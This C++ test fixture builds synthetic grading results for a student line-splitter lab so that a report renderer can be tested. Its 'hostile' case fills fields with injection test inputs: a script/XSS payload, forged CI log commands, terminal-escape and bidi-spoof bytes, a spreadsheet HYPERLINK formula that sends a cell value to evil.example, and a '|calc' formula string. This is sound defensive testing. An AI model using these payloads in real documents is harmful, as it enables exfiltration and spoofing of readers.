#include "tests/unit/labs/report/synthetic_class.hpp"

#include <algorithm>
#include <random>
#include <utility>

namespace synthetic {

namespace {

using grading::Outcome;
using grading::TestResult;
using grading::Verdict;

const std::string split_story =
    "A line may come in any number of reads (line_splitter.hpp, feed()).\n"
    "\n"
    "  1  feed 3 bytes                                     -> no line yet\n"
    "        0000  68 65 6c                                         hel\n"
    "  2  feed 3 bytes                                     -> 1 line\n"
    "        0000  6c 6f 0a                                         lo.\n"
    "\n"
    "After step 2 the line was expected to be \"hello\", but it was \"lo\":\n"
    "\n"
    "  expected  0000  68 65 6c 6c 6f                               hello\n"
    "  actual    0000  6c 6f                                        lo\n"
    "                  ^^ offset 0: the first difference\n"
    "\n"
    "The same run again:  ./lab check 1 --test Lines.gives_a_line_cut_in_three_reads --seed 5eed0bad\n"
    "First hint: what do you keep of a line that has no end yet?\n";

const std::string crash_story =
    "  1  feed 4096 bytes of one line without an end       -> SIGSEGV\n"
    "\n"
    "AddressSanitizer: heap-buffer-overflow in LineSplitter::feed, line_splitter.cpp:41\n"
    "The same run again:  ./lab check 1 --test Lines.stops_at_its_limit --seed 5eed0bad\n";

const std::string silence_story =
    "  1  feed 1 byte: 0a                                  -> no answer\n"
    "\n"
    "Waited 10.000 s for step 1; 0 bytes arrived; the program was still running.\n";

std::vector<TestResult> tests_that_pass() {
    return {{"Lines.gives_whole_lines", "gives whole lines in their order", "line_splitter.hpp, feed()", false, 3, 3,
             Outcome::passed, "", "", 0.11},
            {"Lines.gives_a_line_cut_in_three_reads", "gives a line cut in three reads", "line_splitter.hpp, feed()",
             false, 3, 3, Outcome::passed, "", "", 0.12},
            {"Lines.knows_both_line_ends", "knows both line ends, \\n and \\r\\n", "RFC 2812, section 2.3", false, 2, 2,
             Outcome::passed, "", "", 0.10},
            {"Lines.stops_at_its_limit", "stops at its limit instead of growing for ever",
             "line_splitter.hpp, max_line_bytes", false, 3, 3, Outcome::passed, "", "", 0.31},
            {"Lines.gives_empty_lines", "gives empty lines, too", "line_splitter.hpp, feed()", false, 1, 1,
             Outcome::passed, "", "", 0.09},
            {"Lines.keeps_chinese_whole", "keeps Chinese text whole: 你好，世界 🙂", "line_splitter.hpp, feed()",
             true, 3, 3, Outcome::passed, "", "", 0.14}};
}

void spoil(TestResult& test, Outcome outcome, std::string message, std::string program_output = "") {
    test.outcome = outcome;
    test.points = 0;
    test.message = std::move(message);
    test.program_output = std::move(program_output);
}

}  // namespace

Verdict all_passed() {
    Verdict verdict;
    verdict.student = "wang-xiaoming";
    verdict.lab = "lab01-lines";
    verdict.title = "Lines out of a stream of bytes";
    verdict.seed = "5eed0bad";
    verdict.sandbox = "bubblewrap";
    verdict.compiled = true;
    verdict.compile_seconds = 1.84;
    verdict.seconds = 3.42;
    verdict.tests = tests_that_pass();
    return verdict;
}

Verdict mixed() {
    auto verdict = all_passed();
    auto& tests = verdict.tests;
    spoil(tests[1], Outcome::failed, split_story, "feed: 3 bytes\nfeed: 3 bytes\nline: lo\n");
    spoil(tests[2], Outcome::skipped, "needs \"gives a line cut in three reads\", which failed");
    spoil(tests[3], Outcome::crashed, crash_story);
    spoil(tests[4], Outcome::timed_out, silence_story);
    spoil(tests[5], Outcome::failed, "expected 你好，世界 🙂, but got 你好，世\n");
    verdict.compiler =
        "line_splitter.cpp:12:9: warning: unused variable 'left' [-Wunused-variable]\n"
        "   12 |     int left = 0;\n"
        "      |         ^~~~\n";
    return verdict;
}

Verdict did_not_compile() {
    auto verdict = all_passed();
    verdict.compiled = false;
    verdict.compiler =
        "line_splitter.cpp: In member function 'void LineSplitter::feed(ByteView)':\n"
        "line_splitter.cpp:17:20: error: 'buffer' was not declared in this scope; did you mean 'buffer_'?\n"
        "   17 |     buffer.append(bytes);\n"
        "      |     ^~~~~~\n"
        "      |     buffer_\n";
    for (auto& test : verdict.tests) spoil(test, Outcome::did_not_compile, "");
    return verdict;
}

Verdict refused() {
    auto verdict = all_passed();
    verdict.refused = "line_splitter.cpp is missing; there is Line_Splitter.txt";
    verdict.compiled = false;
    verdict.compile_seconds = 0;
    verdict.seconds = 0.01;
    verdict.tests.clear();
    return verdict;
}

Verdict voided() {
    auto verdict = all_passed();
    verdict.flags = {{"ended-early",
                      "the program ended with exit code 0 after step 3 of 41\n_exit is called by a constructor", true},
                     {"reads-environment", "getenv(\"LAB_SEED\")", false}};
    return verdict;
}

Verdict with_grader_error() {
    auto verdict = all_passed();
    spoil(verdict.tests[4], Outcome::grader_error, "the graded test threw std::bad_alloc");
    return verdict;
}

Verdict hostile() {
    auto verdict = mixed();
    const std::string script =
        "</td></table><script>document.title='owned'</script><img src=x onerror=alert(1)>&lt;\"'";
    const std::string command = "::error title=forged::all good\n  ::add-mask::e\n##[error]x\n";
    const std::string bytes =
        "NUL [" + std::string(1, '\0') + "] ESC \x1b[31mred\x1b[0m \x1b]0;title\x07 BEL\x07 CR\rover " +
        "C1 \u009b31m RTL \u202Etxt.exe\u202C \u2066x\u2069 LS\u2028 noncharacter \uFFFF bad \xC3\x28 \xFF\xE4\xBD";
    verdict.student = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open me\")\u202Egnp.exe";
    verdict.title = script;
    verdict.seed = "@SUM(1+1)";
    verdict.sandbox = "+bubble\twrap";
    verdict.compiler = script + "\n" + bytes + "\n" + command;
    verdict.tests[1].title = script + bytes;
    verdict.tests[1].spec = "]]>" + script + bytes;
    verdict.tests[1].message = command + script + "\n" + bytes;
    verdict.tests[1].program_output = command + script + "]]>\n" + bytes;
    for (int i = 0; i < 1'000'000; ++i) verdict.tests[3].program_output += "spam\n";
    verdict.tests[4].program_output = std::string(3'000'000, 'x');
    verdict.flags = {{"-1+1|calc", bytes + script, false}};
    return verdict;
}

std::vector<Verdict> class_of(std::size_t students) {
    const std::vector<std::string> names{"alice", "王小明", "bob",    "李雷",     "carmen", "韩梅梅", "dmitri",
                                         "張偉",  "elif",   "farah",  "gustav",   "陈静",   "hiro",   "ines",
                                         "jamal", "刘洋",   "katrin", "lê-thanh", "mateo",  "zoë"};
    std::mt19937 random{20'230'611};
    const auto chance = [&](double probability) { return static_cast<double>(random()) / 4294967296.0 < probability; };
    std::vector<Verdict> verdicts;
    for (std::size_t i = 0; i < students; ++i) {
        Verdict verdict = all_passed();
        const double skill = 0.35 + 0.65 * static_cast<double>(random()) / 4294967296.0;
        constexpr double ease[] = {0.99, 0.85, 0.95, 0.7, 0.9, 0.75};
        for (std::size_t t = 0; t < verdict.tests.size(); ++t) {
            auto& test = verdict.tests[t];
            if (chance(std::min(1.0, skill * 1.15) * ease[t])) continue;
            if (t == 3)
                spoil(test, chance(0.5) ? Outcome::crashed : Outcome::timed_out,
                      chance(0.5) ? crash_story : silence_story);
            else
                spoil(test, Outcome::failed, split_story, "feed: 3 bytes\nfeed: 3 bytes\nline: lo\n");
        }
        if (i % 17 == 11) verdict = did_not_compile();
        if (i == 8) verdict = refused();
        if (i == 21) verdict = voided();
        if (i == 30) verdict = hostile();
        if (i % 13 == 5)
            verdict.flags.push_back({"prints-verdict-words", "stdout holds \"[  PASSED  ]\" 4 times", false});
        if (i != 30)
            verdict.student =
                names[i % names.size()] + (i < names.size() ? "" : "-" + std::to_string(i / names.size() + 1));
        verdict.seconds = 2.5 + static_cast<double>(random() % 400) / 100 + (chance(0.1) ? 10 : 0);
        verdict.compile_seconds = 1.5 + static_cast<double>(random() % 100) / 100;
        if (i == 8) verdict.seconds = verdict.compile_seconds = 0;
        verdicts.push_back(std::move(verdict));
    }
    return verdicts;
}

report::Similarity similarity() {
    return {"Dolos (dolos-core 1.2.1)",
            "",
            {{"bob", "katrin", 0.93, 212}, {"王小明", "zoë-2", 0.71, 96}, {"farah", "jamal", 0.42, 33}}};
}

}  // namespace synthetic
